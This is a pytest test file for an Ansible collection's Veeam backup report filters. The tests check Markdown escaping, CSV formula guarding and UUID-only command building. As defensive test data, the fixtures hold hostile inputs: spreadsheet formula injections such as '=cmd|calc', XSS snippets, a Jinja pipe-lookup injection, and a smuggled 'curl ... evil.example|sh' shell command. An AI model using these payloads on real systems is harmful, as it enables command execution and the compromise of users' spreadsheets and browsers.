# -*- coding: utf-8 -*-
# Copyright: (c) 2026, vb365.backup contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The report filters: what a server sends reads as its text, never as markup, a formula or a command."""

from __future__ import annotations

import csv
import io
import json
import shlex

import pytest

from ansible_collections.vb365.backup.plugins.filter.report import (
    FilterModule, fleet_csv, group_problems, job_reason, md_escape, report_safe, report_time, session_command,
    worst_first)
from ansible_collections.vb365.backup.plugins.module_utils.export import CsvExport, HashingSink, JsonExport

SESSION_ID = '3f2b6a1e-9c4d-4e8f-a1b2-c3d4e5f60718'
HOSTILE = "=HYPERLINK(\"http://evil.example\")|x\r\n# Head [link](http://evil.example) <img src=x onerror=alert(1)> \ud800"


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline='')))


def test_every_filter_is_registered():
    assert sorted(FilterModule().filters()) == sorted([
        'report_safe', 'md_escape', 'report_time', 'worst_first', 'job_reason', 'group_problems',
        'session_command', 'fleet_csv', 'inert', 'protection_csv'])


@pytest.mark.parametrize('text, shown', [
    ('a | b', r'a \| b'),
    ('line one\nline two\r\nthree\rfour', 'line one line two three four'),
    ('# Heading', r'\# Heading'),
    ('[click](http://evil.example)', r'\[click\](http://evil.example)'),
    ('<script>alert(1)</script>', r'\<script\>alert(1)\</script\>'),
    ('**bold** _it_ `code` ~~gone~~ ![img](x)', r'\*\*bold\*\* \_it\_ \`code\` \~\~gone\~\~ \!\[img\](x)'),
    ('&lt;b&gt; &#60; &amp;', r'\&lt;b\&gt; \&\#60; \&amp;'),
    ('Müller & Söhne – Exchange Online', 'Müller & Söhne – Exchange Online'),
    ('back\\slash', 'back\\\\slash'),
    ('Job started at 23:00:00, 5 items.', 'Job started at 23:00:00, 5 items.'),
    (None, ''),
    (42, '42'),
])
def test_md_escape_shows_the_text_itself(text, shown):
    assert md_escape(text) == shown


def test_md_escape_replaces_a_lone_surrogate():
    assert md_escape('bad \ud800 text') == 'bad \ufffd text'
    md_escape('bad \ud800 text').encode('utf-8')


def test_report_safe_replaces_lone_surrogates_everywhere_and_keeps_other_values():
    data = {'name': 'a\ud800', 'items': [{'message': '\udfffb', 'usn': 3, 'duration': -1.5}], 'ok': True, 'none': None,
            'k\ud801': 'v'}
    safe = report_safe(data)
    assert safe == {'name': 'a\ufffd', 'items': [{'message': '\ufffdb', 'usn': 3, 'duration': -1.5}], 'ok': True,
                    'none': None, 'k\ufffd': 'v'}
    json.dumps(safe, ensure_ascii=False).encode('utf-8')


@pytest.mark.parametrize('text, shown', [
    ('2026-11-30T23:00:00.0000000+01:00', '2026-11-30 23:00 +01:00'),
    ('2026-11-30T23:00:00Z', '2026-11-30 23:00 +00:00'),
    ('2026-11-30T23:00:00-05:30', '2026-11-30 23:00 -05:30'),
    ('2026-11-30T23:00:00', '2026-11-30 23:00'),
    ('2026-11-30T23:00', '2026-11-30 23:00'),
    ('yesterday', 'yesterday'),
    ('', '-'),
    (None, '-'),
])
def test_report_time_shows_minutes_and_the_offset(text, shown):
    assert report_time(text) == shown


def test_report_time_default_for_a_missing_time():
    assert report_time(None, 'still running') == 'still running'


def test_worst_first_orders_by_verdict_and_keeps_the_server_order_within_one():
    jobs = [{'job_name': 'a', 'verdict': 'Success'}, {'job_name': 'b', 'verdict': 'Warning'},
            {'job_name': 'c', 'verdict': 'Error'}, {'job_name': 'd', 'verdict': 'Missed'},
            {'job_name': 'e', 'verdict': 'Success'}, {'job_name': 'f', 'verdict': 'Disabled'},
            {'job_name': 'g', 'verdict': 'Stop'}, {'job_name': 'h', 'verdict': 'Error'}]
    assert [job['job_name'] for job in worst_first(jobs)] == ['c', 'h', 'd', 'b', 'g', 'f', 'a', 'e']
    assert worst_first(None) == []


# 2026-12-01 21:00 UTC; the last run 2026-11-27 23:00 +01:00 is 3 days 23 hours before.
NOW = 1796158800


def test_job_reason_says_since_when_a_missed_job_has_not_run():
    job = {'verdict': 'Missed', 'session': {'creation_time': '2026-11-27T23:00:00.0000000+01:00'}}
    assert job_reason(job, now=NOW) == 'no run since 2026-11-27 23:00 +01:00, 3 days'
    job = {'verdict': 'Missed', 'session': {'creation_time': '2026-11-26T21:00:00Z'}}
    assert job_reason(job, now=NOW) == 'no run since 2026-11-26 21:00 +00:00, 5 days'
    assert job_reason({'verdict': 'Missed', 'session': None}, now=NOW) == 'never ran'


def test_job_reason_is_the_servers_details_when_a_session_failed_with_no_failed_operation():
    job = {'verdict': 'Error', 'session': {'status': 'Error', 'details': 'The application certificate has expired.'},
           'summary': {'total': 1, 'by_status': {'Success': 1, 'Error': 0}}}
    assert job_reason(job) == 'The application certificate has expired.'
    job['summary'] = None
    assert job_reason(job) == 'The application certificate has expired.'


def test_job_reason_is_none_when_the_operations_say_it():
    failed = {'verdict': 'Error', 'session': {'details': 'Processing finished with errors'},
              'summary': {'by_status': {'Error': 2}}}
    assert job_reason(failed) is None
    assert job_reason({'verdict': 'Success', 'session': {'details': 'All good'}}) is None
    assert job_reason({'verdict': 'Error', 'session': {'details': None}}) is None


def test_group_problems_counts_repeats_but_for_names_numbers_urls_and_quoted_items():
    items = [{'status': 'Warning', 'usn': 1, 'message': 'Mailbox alice@contoso.com: 12 items skipped'},
             {'status': 'Error', 'usn': 2, 'message': "Site 'https://contoso.sharepoint.com/sites/a' is not reachable"},
             {'status': 'Warning', 'usn': 3, 'message': 'Mailbox bob@contoso.com: 7 items skipped'},
             {'status': 'Error', 'usn': 4, 'message': "Site 'https://contoso.sharepoint.com/sites/b' is not reachable"},
             {'status': 'Warning', 'usn': 5, 'message': 'Mailbox carol@contoso.com: 3 items skipped'},
             {'status': 'Warning', 'usn': 6, 'message': 'Processing OneDrive of "Dan" took 300 s'}]
    groups = group_problems(items)
    assert [(group['status'], group['usn'], group['count']) for group in groups] == [
        ('Error', 2, 2), ('Warning', 1, 3), ('Warning', 6, 1)]
    assert groups[1]['message'] == 'Mailbox alice@contoso.com: 12 items skipped'
    assert 'count' not in items[0]


def test_group_problems_keeps_different_problems_apart():
    items = [{'status': 'Warning', 'message': 'Item is too large'}, {'status': 'Warning', 'message': 'Item is locked'},
             {'status': 'Error', 'message': 'Item is too large'}]
    assert len(group_problems(items)) == 3


def test_session_command_quotes_a_uuid_and_refuses_anything_else():
    command = session_command(SESSION_ID, '-e', '{"vb365_report_formats": ["csv"]}')
    assert shlex.split(command) == ['ansible-playbook', 'vb365.backup.session_report', '-e',
                                    'vb365_job_session_id=%s' % SESSION_ID, '-e', '{"vb365_report_formats": ["csv"]}']
    for bad in ('0;curl${IFS}-s${IFS}evil.example|sh', "{{ lookup('pipe','id') }}", '../' + SESSION_ID, SESSION_ID + '\n',
                '', None, 42):
        assert session_command(bad) is None


def fleet_servers():
    return [
        {'host': 'vb365-down', 'server': 'https://down:4443', 'api_version': None, 'error': 'Connection refused',
         'error_category': 'unreachable', 'jobs': []},
        {'host': 'vb365-badpass', 'server': 'https://bad:4443', 'api_version': None, 'error': 'Login refused',
         'error_category': 'login_refused', 'jobs': []},
        {'host': 'vb365-odd', 'server': 'https://odd:4443', 'api_version': None, 'error': '=1+1', 'jobs': []},
        {'host': 'vb365-eight', 'server': 'https://eight:4443', 'api_version': 'v8', 'error': None, 'error_category': None,
         'jobs': [
             {'job_name': 'All good', 'job_id': 'j1', 'organization': 'Contoso', 'verdict': 'Success', 'will_retry': False,
              'session': {'id': SESSION_ID, 'status': 'Success', 'creation_time': '2026-11-30T23:00:00.0000000+01:00',
                          'end_time': None, 'duration_seconds': -1.5, 'details': 'ok'},
              'summary': {'total': 3, 'by_status': {'Success': 3, 'Warning': 0, 'Error': 0}}, 'attention_left_out': 0},
             {'job_name': HOSTILE, 'job_id': 'j2', 'organization': '@SUM(A1)', 'verdict': 'Error', 'will_retry': True,
              'session': {'id': SESSION_ID, 'status': 'Error', 'creation_time': '-2+3', 'end_time': '\t=1',
                          'duration_seconds': 12.0, 'details': '+The certificate has expired.'},
              'summary': {'total': 1, 'by_status': {'Success': 1, 'Error': 0}}, 'attention_left_out': 0}]},
    ]


def test_fleet_csv_reads_back_one_row_per_job_worst_first_with_the_text_inert():
    rows = read_csv(fleet_csv(fleet_servers()))
    header, rows = rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]
    assert header[-2:] == ['error_message', 'reason']
    assert len(rows) == 5
    assert [row['verdict'] for row in rows] == ['Unreachable', 'LoginRefused', 'Failed', 'Error', 'Success']
    assert rows[2]['error_message'] == "'=1+1"
    hostile = rows[3]
    # The \r and \n stay inside the cell; the cell starts with ' so no spreadsheet runs it.
    assert hostile['job_name'] == "'" + HOSTILE.replace('\ud800', '\ufffd')
    assert hostile['organization'] == "'@SUM(A1)"
    assert hostile['creation_time'] == "'-2+3" and hostile['end_time'] == "'\t=1"
    assert hostile['reason'] == "'+The certificate has expired."
    assert hostile['will_retry'] == 'true' and hostile['error'] == '0'
    # A number is a number, even a negative one; CSV keeps the server's exact time text.
    assert rows[4]['duration_seconds'] == '-1.5'
    assert rows[4]['creation_time'] == '2026-11-30T23:00:00.0000000+01:00'
    assert rows[4]['session_id'] == SESSION_ID


def test_fleet_csv_quotes_every_cell_so_a_bare_carriage_return_does_not_split_a_row():
    text = fleet_csv([{'host': 'h', 'server': 's', 'error': 'one\rtwo', 'jobs': []}])
    assert '"one\rtwo"' in text
    assert len(read_csv(text)) == 2


def test_fleet_csv_without_an_error_category_says_failed():
    rows = read_csv(fleet_csv([{'host': 'h', 'server': 's', 'error': 'it broke', 'jobs': []}]))
    assert rows[1][rows[0].index('verdict')] == 'Failed'


def export(log_items, tmp_path):
    with open(str(tmp_path / 'ops.csv'), 'wb') as csv_handle, open(str(tmp_path / 'ops.json'), 'wb') as json_handle:
        csv_export = CsvExport(HashingSink(csv_handle))
        json_export = JsonExport(HashingSink(json_handle), {'job_session': {'job_name': 'Job \ud800'}})
        for item in log_items:
            csv_export.add(item)
            json_export.add(item)
        csv_export.close({})
        json_export.close({'summary': {'total': len(log_items)}})


def log_item(**values):
    item = {'usn': 1, 'status': 'Error', 'creation_time': '2026-11-30T23:00:00Z', 'end_time': None,
            'duration_seconds': -1.5, 'message': 'm', 'id': 'i1', 'title': 'm'}
    item.update(values)
    return item


def test_session_csv_guards_formulas_keeps_numbers_and_rows(tmp_path):
    messages = ['=HYPERLINK("http://evil.example","x")', '+1', '-1+2', '@SUM(A1)', '\tx', '\rx', 'one\rtwo', 'plain',
                'bad \ud800 text']
    export([log_item(usn=number, message=message) for number, message in enumerate(messages, 1)], tmp_path)
    with open(str(tmp_path / 'ops.csv'), newline='', encoding='utf-8') as handle:
        rows = list(csv.DictReader(handle))
    assert [row['message'] for row in rows] == [
        '\'=HYPERLINK("http://evil.example","x")', "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx", 'one\rtwo', 'plain',
        'bad \ufffd text']
    assert [row['usn'] for row in rows] == [str(number) for number in range(1, len(messages) + 1)]
    assert all(row['duration_seconds'] == '-1.5' for row in rows)
    assert all(row['end_time'] == '' for row in rows)


def test_session_json_keeps_the_exact_text_even_a_lone_surrogate(tmp_path):
    messages = ['=HYPERLINK("http://evil.example","x")', 'one\rtwo', 'bad \ud800 text', 'Zürich']
    export([log_item(message=message) for message in messages], tmp_path)
    raw = (tmp_path / 'ops.json').read_bytes()
    raw.decode('utf-8')
    document = json.loads(raw.decode('utf-8'))
    assert [item['message'] for item in document['log_items']] == messages
    assert document['job_session']['job_name'] == 'Job \ud800'
    assert 'Zürich'.encode('utf-8') in raw


def test_protection_csv_lists_every_problem_user_formula_safe():
    from ansible_collections.vb365.backup.plugins.filter.report import protection_csv
    text = protection_csv([{'name': '=cmd|calc', 'organization': 'Contoso', 'problem': 'Stale', 'is_backed_up': True,
                            'last_backup': None, 'id': 'x', 'license_state': 'Licensed'}], 'emea')
    lines = text.splitlines()
    assert lines[0] == '"host","organization","name","id","problem","license_state","is_backed_up","last_backup"'
    assert lines[1] == '"emea","Contoso","\'=cmd|calc","x","Stale","Licensed","true",""'
    assert protection_csv([]).splitlines() == [lines[0][len('"host",'):]]
